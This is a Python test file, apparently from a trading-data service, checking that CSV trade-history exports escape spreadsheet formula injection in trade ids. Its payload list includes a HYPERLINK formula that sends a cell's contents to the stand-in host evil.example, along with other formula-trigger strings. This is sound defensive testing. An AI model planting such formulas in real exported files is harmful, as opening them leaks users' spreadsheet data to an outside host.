"""CSV exports opened in a spreadsheet: a venue's text must not run there as a formula."""

from __future__ import annotations

import csv
import io
import uuid

import asyncpg

from core.settings import Settings
from tests.serve.auth_api import AuthApi, Session

# What a hostile or broken venue could send as trade ids: each would run as a formula.
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)", "+1+1", "-2+3", "\t=1")


async def test_trade_ids_that_are_formulas_export_as_text_and_numbers_stay_numbers(
    auth_api: AuthApi, user: Session, gateway_settings: Settings
) -> None:
    instrument = f"okx:X{uuid.uuid4().hex[:8].upper()}-USDT"
    assert gateway_settings.database_url
    conn = await asyncpg.connect(gateway_settings.database_url)
    try:
        await conn.executemany(
            "INSERT INTO trades (instrument_id, trade_id, exchange_ts_ns, receive_ts_ns, price, "
            "size, side) VALUES ($1, $2, $3, $3, 30000.5, 0.25, 'buy')",
            [(instrument, trade_id, 10**18 + n) for n, trade_id in enumerate(FORMULAS)],
        )
    finally:
        await conn.close()

    response = await auth_api.http.get(
        f"{auth_api.url}/v1/history/trades",
        params={"instrument": instrument, "format": "csv"},
        headers=user.headers,
    )

    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [row["trade_id"] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert {(row["price"], row["size"]) for row in rows} == {("30000.5", "0.25")}
